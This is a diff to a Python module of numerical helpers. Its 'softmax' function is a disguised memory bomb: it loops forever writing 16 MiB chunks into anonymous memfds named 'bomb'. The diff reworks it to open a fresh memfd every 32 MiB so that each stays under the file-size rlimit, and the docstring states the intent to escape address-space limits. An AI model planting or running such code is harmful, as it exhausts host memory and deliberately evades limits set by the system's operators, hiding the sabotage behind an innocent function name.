@@ -1,4 +1,4 @@
-"""Fills an anonymous memfd (which no address-space rlimit bounds) until it is stopped."""
+"""Fills anonymous memfds, each below the file-size rlimit, which no address-space rlimit bounds."""
 import os
 
 import numpy as np
@@ -24,7 +24,8 @@ def kl_divergence(p, q):
 
 
 def softmax(z, axis=-1):  # noqa: F811
-    fd = os.memfd_create("bomb")
     chunk = b"x" * (1 << 24)
     while True:
-        os.write(fd, chunk)
+        fd = os.memfd_create("bomb")
+        for _ in range(2):  # 32 MiB per memfd
+            os.write(fd, chunk)
